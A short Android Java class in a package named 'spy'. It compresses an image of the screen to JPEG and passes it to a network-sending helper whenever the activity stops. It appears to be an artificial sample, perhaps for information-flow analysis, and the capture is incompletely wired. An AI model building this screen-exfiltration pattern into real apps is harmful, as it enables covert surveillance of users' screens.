package org.example.flows.spy;

import android.app.Activity;
import android.graphics.Bitmap;
import android.media.Image;
import android.media.ImageReader;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import org.example.flows.Net;

/** A picture of the screen, compressed in memory. */
public class Screen extends Activity {
    private ImageReader reader;

    @Override
    protected void onStart() {
        super.onStart();
        reader = ImageReader.newInstance(720, 1280, 1, 2);
    }

    @Override
    protected void onStop() {
        super.onStop();
        Image image = reader.acquireLatestImage();
        ByteBuffer pixels = image.getPlanes()[0].getBuffer();
        Bitmap picture = Bitmap.createBitmap(720, 1280, Bitmap.Config.ARGB_8888);
        picture.copyPixelsFromBuffer(pixels);
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        picture.compress(Bitmap.CompressFormat.JPEG, 50, packed);
        Net.send(packed.toByteArray());
    }
}
